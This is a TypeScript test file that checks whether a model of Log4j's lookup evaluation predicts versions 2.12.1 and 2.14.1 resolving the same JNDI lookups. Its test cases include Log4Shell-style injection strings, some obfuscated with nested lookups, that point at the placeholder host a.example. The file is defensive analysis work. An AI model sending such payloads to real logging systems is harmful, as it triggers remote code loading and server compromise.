import { readFileSync } from 'node:fs'
import { gunzipSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { evaluateOn, evaluatingOnNewest, isAlikeOnB, older } from './evaluations.ts'

const texts = gunzipSync(readFileSync(new URL('../lookup/testdata/lookup-oracle.jsonl.gz', import.meta.url)))
  .toString('utf8')
  .trimEnd()
  .split('\n')
  .slice(1)
  .map((line) => (JSON.parse(line) as { readonly input: string }).input)

test('where 2.12.1 is said to do as 2.14.1 did, it does', () => {
  const judged = texts.map((text) => {
    const message = evaluatingOnNewest(text, 0).message()
    const { jndi } = evaluateOn(older.B, text, 'message', 0)
    return { text, isAlike: isAlikeOnB(text, message), newest: message.jndi, older: jndi }
  })
  const alike = judged.filter(({ isAlike }) => isAlike)

  expect(alike.filter((each) => each.newest.join('\n') !== each.older.join('\n'))).toEqual([])
  expect(alike.length).toBeGreaterThan(2_500)
})

test.each([
  ['a lookup that came later', '${${lower:J}ndi:ldap://a.example/x}'],
  ['the same, its name built', '${${${::-l}ower:J}ndi:ldap://a.example/x}'],
  ['an escape that came later', '${a:\\-b:-${jndi:ldap://a.example/x}}'],
  ['more steps than are kept', '${env:A:-}'.repeat(80)],
])('%s is not said to do alike', (_case, text) => {
  expect(isAlikeOnB(text, evaluatingOnNewest(text, 0).message())).toBe(false)
})

test('a pass that was asked for stays as it was when the message is asked for', () => {
  const evaluating = evaluatingOnNewest('${jndi:ldap://a.example/x} ${b} ${c}', 0)
  const once = evaluating.once()
  const message = evaluating.message()

  expect(once.jndi).toEqual(['ldap://a.example/x'])
  expect(message.jndi).toEqual(Array.from({ length: 3 }, () => 'ldap://a.example/x'))
})
